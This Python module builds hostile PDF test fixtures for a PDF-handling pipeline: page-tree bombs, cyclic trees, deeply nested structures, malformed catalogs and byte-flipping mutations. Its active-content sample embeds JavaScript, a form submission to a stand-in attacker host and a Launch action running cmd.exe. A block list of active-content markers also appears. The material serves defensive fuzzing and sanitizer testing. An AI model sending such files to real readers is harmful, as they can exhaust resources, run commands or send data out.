"""Hostile PDFs built in code: page-tree bombs, nested arrays, active content, broken catalogs, mutations.

Each file is written object by object with a correct cross-reference table, so that what is hostile is the
structure, not a parse error that any reader would refuse at once.
"""

from __future__ import annotations

import io
import random

from pypdf import PdfWriter

PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"


def raw_pdf(objects: dict[int, bytes], root: int = 1, trailer_extra: bytes = b"") -> bytes:
    """A PDF file of the given numbered objects, with its xref table and trailer."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number in sorted(objects):
        offsets[number] = out.tell()
        out.write(b"%d 0 obj\n" % number + objects[number] + b"\nendobj\n")
    size = max(objects) + 1
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % size)
    for number in range(1, size):
        out.write(b"%010d 00000 n \n" % offsets[number] if number in offsets else b"0000000000 65535 f \n")
    out.write(b"trailer\n<< /Size %d /Root %d 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (size, root, trailer_extra,
                                                                                     xref))
    return out.getvalue()


def page_tree_bomb(fan_out: int = 32, levels: int = 4) -> bytes:
    """A page tree whose every node lists the same child `fan_out` times: fan_out**levels pages in ~1.5 KB."""
    objects = {1: b"<< /Type /Catalog /Pages 2 0 R >>"}
    first, leaf = 2, 2 + levels
    for level in range(levels):
        number, child = first + level, first + level + 1
        kids = b" ".join(b"%d 0 R" % child for _ in range(fan_out))
        parent = b"" if level == 0 else b"/Parent %d 0 R " % (number - 1)
        objects[number] = (b"<< /Type /Pages %s/Kids [%s] /Count %d >>"
                           % (parent, kids, fan_out ** (levels - level)))
    objects[leaf] = b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] >>" % (leaf - 1)
    return raw_pdf(objects)


def self_parent_tree() -> bytes:
    """A page tree that lists itself among its kids: a cycle."""
    return raw_pdf({1: b"<< /Type /Catalog /Pages 2 0 R >>",
                    2: b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>", 3: PAGE})


def nested_arrays(depth: int = 5000) -> bytes:
    """One page whose resources hold an array nested `depth` times: readers that recurse overflow."""
    nested = b"[" * depth + b"1" + b"]" * depth
    return raw_pdf({1: b"<< /Type /Catalog /Pages 2 0 R >>",
                    2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                    3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Deep %s >> >>"
                       % nested})


def broken_resources() -> bytes:
    """One page whose resources are a separate object that only breaks when it is read: a check that
    counts pages passes it, the merge that copies the page fails on it."""
    return raw_pdf({1: b"<< /Type /Catalog /Pages 2 0 R >>",
                    2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                    3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources 4 0 R >>",
                    4: b"<< /Font << /F1 <4g9z> >> >>"})


def nested_array_chain(depth: int = 5000) -> bytes:
    """One page whose resources hold an array that holds an array… each its own object, `depth` deep: a
    check that counts pages passes it, a copy that follows references recurses until it overflows."""
    objects = {1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
               3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Deep 4 0 R >> >>"}
    objects.update({n: b"[%d 0 R]" % (n + 1) for n in range(4, 4 + depth)})
    objects[4 + depth] = b"1"
    return raw_pdf(objects)


def nested_dictionaries(depth: int = 5000) -> bytes:
    nested = b"<< /A " * depth + b"1" + b" >>" * depth
    return raw_pdf({1: b"<< /Type /Catalog /Pages 2 0 R >>",
                    2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                    3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources %s >>" % nested})


ACTIVE_MARKERS = (b"/JavaScript", b"/JS", b"/OpenAction", b"/AA", b"/Launch", b"/Link", b"/URI", b"/SubmitForm",
                  b"/ImportData", b"/GoToR", b"/RichMedia")


def active_content() -> bytes:
    """A two-page PDF with every kind of active content: document JavaScript, OpenAction, additional
    actions on the catalog and a page, a Launch action, link annotations (URI and JavaScript)."""
    return raw_pdf({
        1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /AA << /WC 6 0 R >> /Names << /JavaScript"
           b" << /Names [(evil) 5 0 R] >> >> >>",
        2: b"<< /Type /Pages /Kids [3 0 R 4 0 R] /Count 2 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /AA << /O 7 0 R >> /Annots [8 0 R 9 0 R] >>",
        4: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [10 0 R] >>",
        5: b"<< /Type /Action /S /JavaScript /JS (app.alert\\('pwned'\\)) >>",
        6: b"<< /Type /Action /S /JavaScript /JS (this.submitForm\\('https://evil.example/'\\)) >>",
        7: b"<< /Type /Action /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>",
        8: b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (https://evil.example/) >> >>",
        9: b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A 5 0 R >>",
        10: b"<< /Type /Annot /Subtype /Widget /FT /Btn /Rect [0 0 10 10] /A << /S /SubmitForm /F"
            b" (https://evil.example/) >> /AA << /U 5 0 R >> >>",
    })


def active_names() -> list[bytes]:
    """What must never appear in a PDF we produce from active_content()."""
    return [b"/JavaScript", b"/OpenAction", b"/Launch", b"/Link", b"/URI", b"/SubmitForm", b"/AA", b"/JS"]


MALFORMED_CATALOGS: dict[str, bytes] = {
    "catalogue sans /Pages": raw_pdf({1: b"<< /Type /Catalog >>"}),
    "/Pages n'est pas un dictionnaire": raw_pdf({1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"[1 2 3]"}),
    "/Pages vers un objet absent": raw_pdf({1: b"<< /Type /Catalog /Pages 7 0 R >>"}),
    "/Kids n'est pas un tableau": raw_pdf({1: b"<< /Type /Catalog /Pages 2 0 R >>",
                                           2: b"<< /Type /Pages /Kids 42 /Count 1 >>"}),
    "/Kids contient un nombre": raw_pdf({1: b"<< /Type /Catalog /Pages 2 0 R >>",
                                         2: b"<< /Type /Pages /Kids [42 (x)] /Count 2 >>"}),
    "/Count négatif": raw_pdf({1: b"<< /Type /Catalog /Pages 2 0 R >>",
                               2: b"<< /Type /Pages /Kids [3 0 R] /Count -5 >>", 3: PAGE}),
    "racine qui n'est pas un dictionnaire": raw_pdf({1: b"(bonjour)"}),
    "racine absente": raw_pdf({2: b"<< /Type /Catalog >>"}, root=1),
    "page sans type": raw_pdf({1: b"<< /Type /Catalog /Pages 2 0 R >>",
                               2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", 3: b"<< /Foo /Bar >>"}),
    "arbre de pages cyclique": self_parent_tree(),
    "xref tronquée": raw_pdf({1: b"<< /Type /Catalog /Pages 2 0 R >>",
                              2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", 3: PAGE})[:-40],
    "en-tête seul": b"%PDF-1.7\n",
    "flux géant annoncé": raw_pdf({1: b"<< /Type /Catalog /Pages 2 0 R >>",
                                   2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                                   3: b"<< /Type /Page /Parent 2 0 R /Contents 4 0 R >>",
                                   4: b"<< /Length 999999999 /Filter /FlateDecode >>\nstream\nxx\nendstream"}),
}


def plain_pdf(pages: int = 2) -> bytes:
    """A well-formed PDF with some text content, the seed of the mutations."""
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=595, height=842)
    writer.add_metadata({"/Title": "Annexe"})
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def mutations(count: int, seed: int = 13) -> list[bytes]:
    """`count` copies of sample PDFs with bytes flipped, cut, duplicated or swapped, from a fixed seed."""
    rng = random.Random(seed)
    seeds = [plain_pdf(2), active_content(), nested_arrays(50), page_tree_bomb(3, 3)]
    out = []
    for _ in range(count):
        data = bytearray(rng.choice(seeds))
        for _ in range(rng.randint(1, 6)):
            position = rng.randrange(len(data))
            match rng.randrange(5):
                case 0:
                    data[position] = rng.randrange(256)
                case 1:
                    del data[position:position + rng.randint(1, 40)]
                case 2:
                    data[position:position] = data[position:position + rng.randint(1, 60)]
                case 3:
                    data[position:position] = rng.choice([b"[", b"<<", b" 0 R", b"/Kids [2 0 R 2 0 R]", b"-1",
                                                          b"99999999999", b"/Length 0", b")", b"\x00"])
                case _:
                    digits = [i for i, c in enumerate(data) if 48 <= c <= 57]
                    if digits:
                        data[rng.choice(digits)] = rng.randrange(48, 58)
        out.append(bytes(data))
    return out
